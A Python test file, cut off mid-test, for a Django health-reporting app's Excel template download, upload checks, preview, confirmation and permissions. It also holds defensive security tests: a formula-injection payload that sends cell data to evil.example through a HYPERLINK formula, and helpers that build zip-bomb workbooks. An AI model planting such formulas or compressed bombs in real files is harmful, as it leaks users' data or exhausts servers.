"""Excel round-trip: template download, upload checks, preview, confirm, permissions."""

import datetime as dt
import io
import zipfile
from unittest import mock

import openpyxl
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse

from facilities.models import RoleAssignment
from indicators import excel
from indicators.models import DataValue, MonthlyReport, ReportEvent, ValidationRule
from indicators.services import imports
from indicators.services import reports as services
from indicators.services.imports import ImportRefused
from indicators.views.excel import SESSION_KEY
from tests.factories import FacilityFactory, ReportFactory, RoleFactory, WorldMixin, add_values
from tests.i18n import choose_language
from tests.permissions import PermissionMatrixMixin

Status = MonthlyReport.Status
MAY, JUNE, JULY = dt.date(2025, 5, 1), dt.date(2025, 6, 1), dt.date(2025, 7, 1)
TEMPLATE_URL = reverse("indicators:excel_template")
UPLOAD_URL = reverse("indicators:excel_upload")
CONFIRM_URL = reverse("indicators:excel_confirm")


def load(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]


def save(sheet) -> bytes:
    output = io.BytesIO()
    sheet.parent.save(output)
    return output.getvalue()


def column_of(sheet, code: str) -> int:
    return next(c.column for c in sheet[excel.CODE_ROW] if c.value == code)


def row_of(sheet, facility_code: str, period: str) -> int:
    code_col, period_col = column_of(sheet, "facility_code"), column_of(sheet, "period")
    for row in range(excel.FIRST_DATA_ROW, sheet.max_row + 1):
        cells = (sheet.cell(row, code_col).value, sheet.cell(row, period_col).value)
        if cells == (facility_code, period):
            return row
    raise AssertionError(f"no row for {facility_code} {period}")


def fill(sheet, facility_code: str, period: str, values: dict) -> None:
    row = row_of(sheet, facility_code, period)
    for code, value in values.items():
        sheet.cell(row, column_of(sheet, code), value)


@time_machine.travel(dt.datetime(2025, 7, 15, 3, 0, tzinfo=dt.UTC))
class ExcelTestCase(WorldMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.build_world()
        # May: a draft with values; June: nothing yet (Lubuk Pinang)
        cls.may = ReportFactory(facility=cls.pkm_lubuk_pinang, period=MAY, status=Status.DRAFT)
        add_values(cls.may, {"K1": 20, "K4": 15})

    def download(self, user, **params) -> bytes:
        self.client.force_login(user)
        response = self.client.get(TEMPLATE_URL, params, **choose_language(self.client, "en"))
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], excel.XLSX_CONTENT_TYPE)
        return response.content

    def facility_template(self, months=(MAY, JUNE), user=None):
        return load(
            excel.build_template(
                facilities=[self.pkm_lubuk_pinang],
                months=list(months),
                user=user or self.kapus_lubuk_pinang,
            )
        )

    def upload(self, user, content: bytes, name="laporan.xlsx"):
        self.client.force_login(user)
        return self.client.post(
            UPLOAD_URL,
            {"file": SimpleUploadedFile(name, content)},
            **choose_language(self.client, "en"),
        )

    def confirm(self, token=None):
        if token is None:
            token = self.client.session[SESSION_KEY]["token"]
        return self.client.post(CONFIRM_URL, {"token": token}, **choose_language(self.client, "en"))

    def problems(self, response):
        self.assertEqual(response.status_code, 200)
        plan = response.context["plan"]
        self.assertNotIn(SESSION_KEY, self.client.session)  # nothing can be confirmed
        return [(p.row, p.column, p.message) for p in plan.problems]

    def snapshot(self):
        return (
            sorted(DataValue.objects.values_list("report_id", "element__code", "value")),
            sorted(MonthlyReport.objects.values_list("id", "version", "status")),
        )


class TemplateLayoutTests(ExcelTestCase):
    def test_facility_template_layout_values_and_protection(self):
        sheet = load(
            self.download(
                self.kapus_lubuk_pinang,
                facility="P1706001",
                month_from="2025-05",
                month_to="2025-06",
            )
        )
        codes = [c.value for c in sheet[2]]
        self.assertEqual(codes[:4], ["facility_code", "facility_name", "period", "status"])
        self.assertEqual(codes[4:7], ["K1", "K1_MURNI", "K4"])
        self.assertEqual(sheet["E3"].value, "Ibu hamil K1 (kunjungan pertama)")
        self.assertEqual(sheet["E4"].value, "Pregnant women K1 (first ANC visit)")
        self.assertEqual(sheet.max_row, 6)  # 4 header rows + 2 months
        self.assertEqual(
            [sheet["A5"].value, sheet["C5"].value, sheet["E5"].value, sheet["G5"].value],
            ["P1706001", "2025-05", 20, 15],
        )
        self.assertEqual([sheet["C6"].value, sheet["E6"].value], ["2025-06", None])
        self.assertEqual(sheet.freeze_panes, "E5")
        self.assertTrue(sheet.protection.sheet)
        self.assertTrue(sheet["E2"].protection.locked)
        self.assertTrue(sheet["A5"].protection.locked)
        self.assertFalse(sheet["E5"].protection.locked)
        (validation,) = sheet.data_validations.dataValidation
        self.assertEqual((validation.type, validation.formula1), ("whole", "0"))
        self.assertIn("E5", validation.sqref)
        self.assertGreater(sheet.column_dimensions["B"].width, 20)

    def test_district_template_has_every_active_facility_and_locks_submitted_rows(self):
        ReportFactory(facility=self.rsud_mukomuko, period=JUNE, status=Status.SUBMITTED)
        FacilityFactory(
            code="P1706099", subdistrict=self.pkm_lubuk_pinang.subdistrict, active=False
        )
        sheet = load(
            self.download(
                self.dinkes_mukomuko, district="17.06", month_from="2025-06", month_to="2025-06"
            )
        )
        codes = sorted(sheet.cell(r, 1).value for r in range(5, sheet.max_row + 1))
        self.assertEqual(codes, ["P1706001", "P1706002", "RS1706001"])
        locked, open_ = row_of(sheet, "RS1706001", "2025-06"), row_of(sheet, "P1706002", "2025-06")
        self.assertEqual(
            [sheet.cell(locked, 4).value, sheet.cell(open_, 4).value], ["Submitted", "not started"]
        )
        self.assertTrue(sheet.cell(locked, 5).protection.locked)
        self.assertEqual(sheet.cell(locked, 5).fill.fill_type, "solid")  # grey
        self.assertFalse(sheet.cell(open_, 5).protection.locked)
        self.assertIsNone(sheet.cell(open_, 5).fill.fill_type)

    def test_form_defaults_to_the_last_three_months_and_own_facility(self):
        self.client.force_login(self.kapus_lubuk_pinang)
        form = self.client.get(TEMPLATE_URL).context["form"]
        self.assertEqual(
            (form.initial["facility"], form.initial["month_from"], form.initial["month_to"]),
            ("P1706001", "2025-04", "2025-06"),
        )
        self.client.force_login(self.dinkes_mukomuko)
        self.assertNotIn("facility", self.client.get(TEMPLATE_URL).context["form"].initial)

    def test_bad_template_requests_show_form_errors(self):
        self.client.force_login(self.dinkes_mukomuko)
        cases = [
            {"facility": "P1706001", "month_from": "2023-06", "month_to": "2025-06"},  # 25
            {"facility": "P1706001", "month_from": "2025-06", "month_to": "2025-08"},  # future
            {"facility": "P1706001", "month_from": "2025-06", "month_to": "2025-05"},
            {"facility": "P1706001", "month_from": "2025-13", "month_to": "2025-06"},
            {"month_from": "2025-05", "month_to": "2025-06"},  # neither
            {
                "facility": "P1706001",
                "district": "17.06",
                "month_from": "2025-05",
                "month_to": "2025-06",
            },
        ]
        for params in cases:
            with self.subTest(params=params):
                response = self.client.get(TEMPLATE_URL, params)
                self.assertEqual(response.status_code, 200)
                self.assertTemplateUsed(response, "indicators/excel/template.html")
                self.assertTrue(response.context["form"].errors)


class RoundTripTests(ExcelTestCase):
    def test_facility_round_trip(self):
        sheet = load(
            self.download(
                self.kapus_lubuk_pinang,
                facility="P1706001",
                month_from="2025-05",
                month_to="2025-06",
            )
        )
        fill(sheet, "P1706001", "2025-05", {"K1": 21, "K6": 9})  # K4 left at 15
        fill(sheet, "P1706001", "2025-06", {"K1": 30, "K4": 25, "LAHIR_HIDUP": 12})
        response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        plan = response.context["plan"]
        self.assertEqual(plan.problems, [])
        self.assertEqual((plan.to_create, plan.to_update, plan.values_changed), (1, 1, 5))
        self.assertContains(response, 'data-count="values">5<')
        response = self.confirm()
        self.assertRedirects(
            response, reverse("indicators:report_list") + "?month=2025-06", target_status_code=200
        )
        self.may.refresh_from_db()
        june = MonthlyReport.objects.get(facility=self.pkm_lubuk_pinang, period=JUNE)
        self.assertEqual(services.report_values(self.may)[0], {"K1": 21, "K4": 15, "K6": 9})
        self.assertEqual(services.report_values(june)[0], {"K1": 30, "K4": 25, "LAHIR_HIDUP": 12})
        self.assertEqual((self.may.version, self.may.status), (2, Status.DRAFT))
        self.assertEqual(self.may.events.get().action, ReportEvent.Action.IMPORTED)
        self.assertEqual(
            list(june.events.values_list("action", flat=True)), ["created", "imported"]
        )
        self.assertEqual(june.created_by, self.kapus_lubuk_pinang)
        self.assertNotIn(SESSION_KEY, self.client.session)
        # a second download carries the imported values
        again = load(
            self.download(
                self.kapus_lubuk_pinang,
                facility="P1706001",
                month_from="2025-06",
                month_to="2025-06",
            )
        )
        self.assertEqual(again.cell(5, column_of(again, "LAHIR_HIDUP")).value, 12)

    def test_district_round_trip_with_shuffled_columns(self):
        content = self.download(
            self.dinkes_mukomuko, district="17.06", month_from="2025-06", month_to="2025-06"
        )
        sheet = load(content)
        sheet.move_range("E2:E10", cols=60)  # column order does not matter: K1 goes far right
        expected = {
            "P1706001": {"K1": 11, "K4": 7},
            "P1706002": {"K1": 22, "KN1": 5, "LAHIR_HIDUP": 6},
            "RS1706001": {"LAHIR_HIDUP": 40, "BBLR": 3},
        }
        for code, values in expected.items():
            fill(sheet, code, "2025-06", values)
        response = self.upload(self.dinkes_mukomuko, save(sheet))
        self.assertEqual(response.context["plan"].problems, [])
        self.assertEqual(response.context["plan"].to_create, 3)
        self.confirm()
        stored = {
            code: services.report_values(
                MonthlyReport.objects.get(facility__code=code, period=JUNE)
            )[0]
            for code in expected
        }
        self.assertEqual(stored, expected)
        self.assertEqual(ReportEvent.objects.filter(action=ReportEvent.Action.IMPORTED).count(), 3)

    def test_unchanged_file_has_nothing_to_import(self):
        sheet = self.facility_template()
        response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        plan = response.context["plan"]
        self.assertEqual((plan.problems, plan.rows, plan.unchanged), ([], [], 2))  # May, June
        self.assertContains(response, 'data-testid="nothing"')
        self.assertNotIn(SESSION_KEY, self.client.session)

    def test_validation_findings_are_shown_but_do_not_block(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-06", {"K1": 10, "K4": 12})  # rule k4-le-k1 (error)
        response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        plan = response.context["plan"]
        self.assertEqual(plan.problems, [])
        self.assertEqual([(w.row, w.finding.code) for w in plan.warnings], [(6, "k4-le-k1")])
        self.assertContains(response, "K4")
        self.assertContains(response, 'data-testid="warnings"')
        self.confirm()
        june = MonthlyReport.objects.get(facility=self.pkm_lubuk_pinang, period=JUNE)
        self.assertEqual((june.status, services.report_values(june)[0]["K4"]), (Status.DRAFT, 12))

    def test_findings_are_in_the_users_language(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-06", {"K1": 10, "K4": 12})
        rule = ValidationRule.objects.get(code="k4-le-k1")
        self.client.force_login(self.kapus_lubuk_pinang)
        for language, message in (("id", rule.message_id), ("en", rule.message_en)):
            with self.subTest(language=language):
                response = self.client.post(
                    UPLOAD_URL,
                    {"file": SimpleUploadedFile("a.xlsx", save(sheet))},
                    **choose_language(self.client, language),
                )
                (warning,) = response.context["plan"].warnings
                self.assertEqual(warning.finding.message, message)
                self.assertContains(response, message)

    def test_returned_report_is_updated_and_stays_returned(self):
        self.may.status = Status.RETURNED
        self.may.save()
        sheet = self.facility_template(months=[MAY])
        fill(sheet, "P1706001", "2025-05", {"K1": 25})
        self.upload(self.kapus_lubuk_pinang, save(sheet))
        self.confirm()
        self.may.refresh_from_db()
        self.assertEqual((self.may.status, self.may.version), (Status.RETURNED, 2))


class BadFileTests(ExcelTestCase):
    def assert_refused(self, content, expected, name="laporan.xlsx", user=None):
        before = self.snapshot()
        response = self.upload(user or self.kapus_lubuk_pinang, content, name=name)
        problems = self.problems(response)
        for row, column, text in expected:
            self.assertTrue(
                any(p[:2] == (row, column) and text in p[2] for p in problems),
                f"{(row, column, text)} not in {problems}",
            )
        self.assertContains(response, 'data-testid="problems"')
        self.assertNotContains(response, CONFIRM_URL)
        self.assertEqual(self.snapshot(), before)
        return problems

    def test_not_an_xlsx_file(self):
        self.assert_refused(b"facility_code;period\n", [(None, None, "Only Excel .xlsx")], "a.csv")

    def test_corrupt_zip(self):
        content = save(self.facility_template())
        self.assert_refused(content[: len(content) // 2], [(None, None, "cannot be read")])
        self.assert_refused(b"not a zip at all", [(None, None, "cannot be read")])

    def test_zip_that_is_not_a_workbook(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("hello.txt", "hello")
        self.assert_refused(buffer.getvalue(), [(None, None, "cannot be read")])

    def test_file_over_5_mb_is_refused_before_reading(self):
        content = b"PK" + b"0" * (5 * 1024 * 1024)
        with mock.patch("indicators.excel.load_workbook") as load_workbook:
            self.assert_refused(content, [(None, None, "larger than 5 MB")])
        load_workbook.assert_not_called()

    def test_missing_code_row(self):
        sheet = self.facility_template()
        sheet.delete_rows(2)
        problems = self.assert_refused(save(sheet), [(2, None, "Row 2 must hold the column codes")])
        self.assertEqual(len(problems), 1)

    def test_unknown_element_code(self):
        sheet = self.facility_template()
        sheet["G2"] = "K44"
        self.assert_refused(save(sheet), [(2, "G", "Unknown data element code “K44”")])

    def test_formula_in_value_cell(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-06", {"K1": 4, "K4": "=E6-1"})
        self.assert_refused(save(sheet), [(6, "G", "Formulas are not accepted")])

    def test_bad_numbers(self):
        cases = [
            (-3, "cannot be negative"),
            ("-3", "cannot be negative"),
            (2.5, "2.5 is not a whole number"),
            ("2,5", "not a whole number"),
            ("abc", "“abc” is not a number"),
            ("١٢", "“١٢” is not a number"),  # Python's int() and \d read these as 12
            ("１２", "“１２” is not a number"),
            ("１２.0", "“１２.0” is not a number"),
            (True, "is not a number"),
            (1_000_001, "too large for one month"),
        ]
        for value, text in cases:
            with self.subTest(value=value):
                sheet = self.facility_template()
                fill(sheet, "P1706001", "2025-06", {"K1": 5, "K6": value})
                self.assert_refused(save(sheet), [(6, "H", text)])

    def test_bad_and_future_periods(self):
        cases = [
            ("2025-13", "is not a month"),
            ("next month", "is not a month"),
            ("", "is not a month"),
            ("2025-08", "2025-08 is in the future"),
        ]
        for period, text in cases:
            with self.subTest(period=period):
                sheet = self.facility_template()
                sheet["C6"] = period
                sheet["E6"] = 3
                self.assert_refused(save(sheet), [(6, "C", text)])

    def test_duplicate_rows(self):
        sheet = self.facility_template()
        sheet["C6"] = "2025-05"
        self.assert_refused(save(sheet), [(6, "A", "P1706001 2025-05 already appears in row 5")])

    def test_unknown_and_out_of_scope_facilities_get_the_same_message(self):
        sheet = self.facility_template()
        sheet["A5"], sheet["A6"] = "P9999999", "P3672004"  # no such code; Ciwandan (Cilegon)
        sheet["E5"] = sheet["E6"] = 1
        problems = self.assert_refused(
            save(sheet),
            [
                (5, "A", "Unknown facility code “P9999999”"),
                (6, "A", "Unknown facility code “P3672004”"),
            ],
        )
        self.assertNotIn("Ciwandan", str(problems))

    def test_visible_facility_the_user_cannot_edit(self):
        sheet = self.facility_template()
        sheet["A6"] = "P3672004"
        sheet["E6"] = 1
        # the coach sees Ciwandan (network) but does not enter reports
        self.assert_refused(
            save(sheet),
            [(6, "A", "You cannot enter reports for this facility")],
            user=self.coach_cilegon,
        )

    def test_locked_report_with_different_values(self):
        self.may.status = Status.APPROVED
        self.may.save()
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-05", {"K1": 99})
        fill(sheet, "P1706001", "2025-06", {"K1": 3})  # a good row: not imported either
        self.assert_refused(save(sheet), [(5, "E", "approved and cannot be changed")])

    def test_locked_report_with_identical_values_is_unchanged(self):
        self.may.status = Status.SUBMITTED
        self.may.save()
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-06", {"K1": 3})
        response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        plan = response.context["plan"]
        self.assertEqual((plan.problems, plan.unchanged, plan.to_create), ([], 1, 1))

    def test_every_problem_is_listed_and_nothing_is_written(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-05", {"K1": 2.5, "K4": -1})
        fill(sheet, "P1706001", "2025-06", {"K1": 4})  # a good row
        problems = self.assert_refused(save(sheet), [(5, "E", "whole"), (5, "G", "negative")])
        self.assertEqual(len(problems), 2)

    def test_empty_cell_leaves_the_value(self):
        sheet = self.facility_template(months=[MAY])
        fill(sheet, "P1706001", "2025-05", {"K1": None, "K4": 16})
        self.upload(self.kapus_lubuk_pinang, save(sheet))
        self.confirm()
        self.assertEqual(services.report_values(self.may)[0], {"K1": 20, "K4": 16})


class ConfirmTests(ExcelTestCase):
    def preview(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-05", {"K1": 21})
        fill(sheet, "P1706001", "2025-06", {"K1": 30})
        response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        self.assertEqual(response.context["plan"].problems, [])
        return response.context["token"]

    def test_confirm_without_or_with_a_wrong_token_imports_nothing(self):
        token = self.preview()
        before = self.snapshot()
        for posted in ("", "not-the-token", token[:-1]):
            with self.subTest(token=posted):
                response = self.confirm(token=posted)
                self.assertRedirects(response, UPLOAD_URL)
                self.assertEqual(self.snapshot(), before)
        response = self.client.post(CONFIRM_URL, follow=True, **choose_language(self.client, "en"))
        self.assertContains(response, "This preview is no longer valid")
        self.assertEqual(self.snapshot(), before)
        self.confirm(token=token)  # the right token still works, once
        self.assertNotEqual(self.snapshot(), before)
        after = self.snapshot()
        self.confirm(token=token)
        self.assertEqual(self.snapshot(), after)

    def test_a_new_upload_replaces_the_preview(self):
        first = self.preview()
        second = self.preview()
        before = self.snapshot()
        self.confirm(token=first)
        self.assertEqual(self.snapshot(), before)
        self.confirm(token=second)
        self.assertNotEqual(self.snapshot(), before)

    def test_report_changed_after_preview_refuses_everything(self):
        self.preview()
        services.report_save(
            report=self.may, user=self.dinkes_mukomuko, values={"K6": 1}, expected_version=1
        )
        before = self.snapshot()
        response = self.client.post(
            CONFIRM_URL,
            {"token": self.client.session[SESSION_KEY]["token"]},
            follow=True,
            **choose_language(self.client, "en"),
        )
        self.assertContains(response, "was changed by someone else after your preview")
        self.assertEqual(self.snapshot(), before)  # June was not created either

    def test_report_created_after_preview_refuses_everything(self):
        self.preview()
        ReportFactory(facility=self.pkm_lubuk_pinang, period=JUNE, status=Status.DRAFT)
        before = self.snapshot()
        self.confirm()
        self.assertEqual(self.snapshot(), before)

    def test_failure_at_apply_time_rolls_back_earlier_rows(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-06", {"K1": 30})
        fill(sheet, "P1706001", "2025-05", {"K1": 21})
        self.upload(self.kapus_lubuk_pinang, save(sheet))
        before = self.snapshot()
        # the reports and values are written when the audit trail fails
        refused = ImportRefused("Row 6: the audit trail failed. Nothing was imported.")
        with mock.patch.object(imports, "_record_history", side_effect=refused) as record:
            response = self.client.post(
                CONFIRM_URL,
                {"token": self.client.session[SESSION_KEY]["token"]},
                follow=True,
                HTTP_ACCEPT_LANGUAGE="en",
            )
        record.assert_called_once()
        self.assertContains(response, "Nothing was imported")
        self.assertEqual(self.snapshot(), before)  # May's values and June's report rolled back

    def test_right_withdrawn_after_preview_refuses(self):
        for scenario in ("out of scope", "read-only"):
            with self.subTest(scenario=scenario):
                self.preview()
                self.kapus_lubuk_pinang.role_assignments.all().delete()
                if scenario == "read-only":  # still sees the facility, may no longer edit
                    RoleFactory(
                        user=self.kapus_lubuk_pinang,
                        role=RoleAssignment.Role.VIEWER,
                        province=self.mukomuko.province,
                    )
                before = self.snapshot()
                response = self.client.post(
                    CONFIRM_URL,
                    {"token": self.client.session[SESSION_KEY]["token"]},
                    follow=True,
                    **choose_language(self.client, "en"),
                )
                self.assertContains(response, "you can no longer enter reports for this facility")
                self.assertEqual(self.snapshot(), before)
                self.kapus_lubuk_pinang.role_assignments.all().delete()
                RoleFactory(
                    user=self.kapus_lubuk_pinang,
                    role=RoleAssignment.Role.FACILITY_STAFF,
                    facility=self.pkm_lubuk_pinang,
                )

    def test_success_message_counts(self):
        self.preview()
        response = self.client.post(
            CONFIRM_URL,
            {"token": self.client.session[SESSION_KEY]["token"]},
            follow=True,
            **choose_language(self.client, "en"),
        )
        self.assertContains(response, "1 reports created, 1 reports updated, 2 values changed")


class PermissionTests(PermissionMatrixMixin, ExcelTestCase):
    def test_template_matrix(self):
        own = f"{TEMPLATE_URL}?facility=P1706001&month_from=2025-06&month_to=2025-06"
        district = f"{TEMPLATE_URL}?district=17.06&month_from=2025-06&month_to=2025-06"
        cilegon = f"{TEMPLATE_URL}?district=36.72&month_from=2025-06&month_to=2025-06"
        ciwandan = f"{TEMPLATE_URL}?facility=P3672004&month_from=2025-06&month_to=2025-06"
        self.assert_matrix(
            TEMPLATE_URL, allowed=[self.kapus_lubuk_pinang, self.outsider], denied=[]
        )
        self.assert_login_required(own)
        self.assert_status(self.kapus_lubuk_pinang, own, 200)
        self.assert_status(self.dinkes_mukomuko, district, 200)
        self.assert_status(self.coach_cilegon, ciwandan, 200)
        for user, url in [
            (self.kapus_lubuk_pinang, ciwandan),
            (self.kapus_lubuk_pinang, f"{TEMPLATE_URL}?facility=P1706002&month_from=2025-06"),
            (self.dinkes_mukomuko, cilegon),
            (self.dinkes_mukomuko, ciwandan),
            (self.outsider, own),
            (self.outsider, district),
            (self.dinkes_mukomuko, f"{TEMPLATE_URL}?facility=NOPE&month_from=2025-06"),
        ]:
            self.assert_status(user, url, 404)
        self.assert_status(self.kapus_lubuk_pinang, own, 405, method="post")

    def test_upload_matrix(self):
        self.assert_matrix(
            UPLOAD_URL,
            allowed=[self.kapus_lubuk_pinang, self.dinkes_mukomuko, self.outsider],
            denied=[],
            wrong_methods=("put", "delete"),
        )

    def test_upload_post_without_a_file_shows_the_form(self):
        self.client.force_login(self.kapus_lubuk_pinang)
        response = self.client.post(UPLOAD_URL, {}, **choose_language(self.client, "en"))
        self.assertContains(response, "Choose the file to upload.")

    def test_confirm_matrix(self):
        response = self.client.post(CONFIRM_URL, {"token": "x"})
        self.assertEqual(response.status_code, 302)
        self.assertTrue(response["Location"].startswith("/accounts/login/"))
        self.assert_status(self.kapus_lubuk_pinang, CONFIRM_URL, 405, method="get")
        self.assert_status(self.kapus_lubuk_pinang, CONFIRM_URL, 302, method="post")

    def test_report_list_links_to_excel_pages(self):
        self.client.force_login(self.kapus_lubuk_pinang)
        response = self.client.get(reverse("indicators:report_list"))
        self.assertContains(response, TEMPLATE_URL)
        self.assertContains(response, UPLOAD_URL)


class FormulaInjectionTests(ExcelTestCase):
    """Text the site writes to a spreadsheet never runs as a formula (OWASP)."""

    def test_a_facility_named_like_a_formula_is_written_as_text(self):
        name = '=HYPERLINK("https://evil.example/?d="&E5,"Klik")'
        self.pkm_lubuk_pinang.name = name
        self.pkm_lubuk_pinang.save()
        content = self.download(
            self.kapus_lubuk_pinang, facility="P1706001", month_from="2025-05", month_to="2025-05"
        )
        sheet = load(content)
        cell = sheet.cell(excel.FIRST_DATA_ROW, column_of(sheet, "facility_name"))
        self.assertEqual((cell.value, cell.data_type), ("'" + name, "s"))
        self.assertFalse(
            [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        )
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.assertNotIn(b"<f>", archive.read("xl/worksheets/sheet1.xml"))
        # the file still imports: names are not read back, values are
        fill(sheet, "P1706001", "2025-05", {"K1": 21})
        self.upload(self.kapus_lubuk_pinang, save(sheet))
        self.assertEqual(self.confirm().status_code, 302)
        self.assertEqual(self.may.values.get(element__code="K1").value, 21)

    def test_safe_cell(self):
        for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-"]:
            with self.subTest(text=text):
                self.assertEqual(excel.safe_cell(text), "'" + text)
        for value in [None, 0, -5, -2.5, 12, "", "Puskesmas", "P1706001", "2025-05", MAY]:
            with self.subTest(value=value):
                self.assertEqual(excel.safe_cell(value), value)
        self.assertIsInstance(excel.safe_cell(-5), int)


def rezip(content: bytes, replace: dict[str, bytes] | None = None, add: dict | None = None):
    """The workbook ``content`` with some parts replaced or added, deflated as Excel does."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, data in (add or {}).items():
            archive.writestr(name, data)
    return output.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def empty_rows_sheet(rows: int) -> bytes:
    """A sheet of the template's two header rows then ``rows`` rows of empty cells."""
    row = b'<row><c t="inlineStr"><is><t></t></is></c><c/><c/><c/><c/><c/><c/><c/></row>'
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="2"><c r="A2" t="inlineStr"><is><t>facility_code</t></is></c>'
        b'<c r="B2" t="inlineStr"><is><t>period</t></is></c></row>'
        + row * rows
        + b"</sheetData></worksheet>"
    )


class ZipBombTests(ExcelTestCase):
    """Defect 3: the zip is inspected before openpyxl reads it; the sheet is streamed."""

    def refused_before_reading(self, content, text):
        before = self.snapshot()
        with mock.patch("indicators.excel.load_workbook") as load_workbook:
            response = self.upload(self.kapus_lubuk_pinang, content)
        load_workbook.assert_not_called()
        problems = self.problems(response)
        self.assertEqual(len(problems), 1, problems)
        self.assertIn(text, problems[0][2])
        self.assertEqual(self.snapshot(), before)

    def test_a_sheet_that_unpacks_to_tens_of_megabytes_is_refused_unread(self):
        content = rezip(save(self.facility_template()), {SHEET: empty_rows_sheet(500_000)})
        unpacked = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(content)).infolist())
        self.assertLess(len(content), excel.MAX_UPLOAD_BYTES // 10)  # well under the cap
        self.assertGreater(unpacked, 30 * 1024 * 1024)
        self.refused_before_reading(content, "unpacks to more than 5 MB")

    def test_a_part_packed_far_too_tightly_is_refused_unread(self):
        content = rezip(save(self.facility_template()), {SHEET: empty_rows_sheet(40_000)})
        sheet = zipfile.ZipFile(io.BytesIO(content)).getinfo(SHEET)
        self.assertLess(sheet.file_size, 5 * 1024 * 1024)  # under the size cap
        self.assertGreater(sheet.file_size / sheet.compress_size, 100)
        self.refused_before_reading(content, "packed far more tightly")

    def test_a_zip_of_many_parts_is_refused_unread(self):
        parts = {f"xl/media/image{i}.bin": b"x" for i in range(excel.MAX_ZIP_MEMBERS)}
        content = rezip(save(self.facility_template()), add=parts)
        self.refused_before_reading(content, "more than an Excel workbook has")

    def test_the_unpacked_size_limit_is_a_setting(self):
        content = save(self.facility_template())
        with self.settings(QI_IMPORT_MAX_UNPACKED_BYTES=10 * 1024):
            self.refused_before_reading(content, "unpacks to more than 0.00976562 MB")
        with self.settings(QI_IMPORT_MAX_UNPACKED_BYTES=1024 * 1024):
            response = self.upload(self.kapus_lubuk_pinang, content)
        self.assertEqual(response.context["plan"].problems, [])

    def test_a_real_district_template_is_far_below_the_limits(self):
        months = [dt.date(2024, m, 1) for m in range(7, 13)] + [
            dt.date(2025, m, 1) for m in range(1, 7)
        ]
        content = excel.build_template(
            facilities=[self.pkm_lubuk_pinang, self.pkm_kota_mukomuko, self.rsud_mukomuko] * 10,
            months=months,
            user=self.dinkes_mukomuko,
        )  # 30 facilities × 12 months, the size of a real district-year
        members = zipfile.ZipFile(io.BytesIO(content)).infolist()
        self.assertIsNone(excel.zip_refusal(members))
        self.assertLess(sum(m.file_size for m in members), excel.max_unpacked_bytes() / 4)
        self.assertLess(len(members), excel.MAX_ZIP_MEMBERS / 5)
        ratios = [m.file_size / m.compress_size for m in members]
        self.assertLess(max(ratios), excel.MAX_COMPRESSION_RATIO / 4)

    def test_the_workbook_is_streamed_read_only(self):
        sheet = self.facility_template()
        fill(sheet, "P1706001", "2025-06", {"K1": 3})
        with mock.patch("indicators.excel.load_workbook", wraps=openpyxl.load_workbook) as load:
            response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        self.assertEqual(load.call_args.kwargs, {"read_only": True, "data_only": False})
        self.assertEqual(response.context["plan"].to_create, 1)

    def test_reading_stops_at_the_row_limit(self):
        sheet = self.facility_template()
        for number in range(excel.FIRST_DATA_ROW + 2, excel.FIRST_DATA_ROW + 50):
            sheet.cell(number, 1, "P1706001")
            sheet.cell(number, 3, "2025-06")
        content = save(sheet)
        read = []
        real_rows = excel._sheet_rows

        def counted(*args):
            for row in real_rows(*args):
                read.append(row[0])
                yield row

        before = self.snapshot()
        with (
            mock.patch.object(excel, "MAX_DATA_ROWS", 5),
            mock.patch.object(excel, "_sheet_rows", side_effect=counted),
        ):
            response = self.upload(self.kapus_lubuk_pinang, content)
        problems = self.problems(response)
        self.assertEqual(
            problems, [(None, None, "The file has more than 5 rows. Split it into smaller files.")]
        )
        self.assertEqual(len(read), 5 + 1)  # not the 50 rows of the sheet
        self.assertEqual(self.snapshot(), before)

    def test_a_sheet_that_goes_on_for_a_million_rows_stops_early(self):
        sheet = self.facility_template()
        sheet.cell(1_048_576, 1, "P1706001")  # a few bytes in the file, padded by readers
        read = []
        real_rows = excel._sheet_rows

        def counted(*args):
            for row in real_rows(*args):
                read.append(row[0])
                yield row

        with mock.patch.object(excel, "_sheet_rows", side_effect=counted):
            response = self.upload(self.kapus_lubuk_pinang, save(sheet))
        (problem,) = self.problems(response)
        self.assertIn("The sheet goes on past row 20,004", problem[2])
        self.assertEqual(len(read), excel.MAX_SHEET_ROWS + 1)

    def test_a_code_row_beyond_the_column_limit_is_refused(self):
        sheet = self.facility_template()
        sheet.cell(excel.CODE_ROW, 16_000, "K1")
        (problem,) = self.problems(self.upload(self.kapus_lubuk_pinang, save(sheet)))
        self.assertEqual(problem[0], excel.CODE_ROW)
        self.assertIn("Row 2 goes on past column ALL", problem[2])

    def test_a_damaged_sheet_found_while_streaming_is_unreadable(self):
        content = save(self.facility_template())
        broken = zipfile.ZipFile(io.BytesIO(content)).read(SHEET)[:-200]
        (problem,) = self.problems(
